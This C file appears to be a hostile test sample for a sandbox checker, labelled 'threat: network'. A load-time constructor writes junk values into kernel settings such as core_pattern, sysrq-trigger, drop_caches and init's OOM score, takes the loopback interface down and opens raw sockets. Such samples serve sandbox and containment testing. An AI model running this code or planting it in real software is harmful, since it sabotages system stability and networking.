/* about: writes to each setting of the kernel that networks and processes hang on, and changes addresses and filters
 * time: others
 * threat: network
 */
#include <fcntl.h>
#include <net/if.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void change(void)
{
    const char *settings[] = {"/proc/sys/net/ipv4/ip_local_port_range", "/proc/sys/net/ipv4/tcp_rfc1337",
                              "/proc/sys/net/core/somaxconn", "/proc/sys/kernel/core_pattern",
                              "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"};
    for (unsigned i = 0; i < sizeof settings / sizeof settings[0]; i++)
        (void)!write(open(settings[i], O_WRONLY), "1 2\n", 4);
    struct ifreq down;
    memset(&down, 0, sizeof down);
    strcpy(down.ifr_name, "lo");
    ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFFLAGS, &down);
    socket(AF_INET, SOCK_RAW, 6);
    socket(AF_PACKET, SOCK_RAW, 8);
    socket(AF_NETLINK, SOCK_RAW, 12);
}
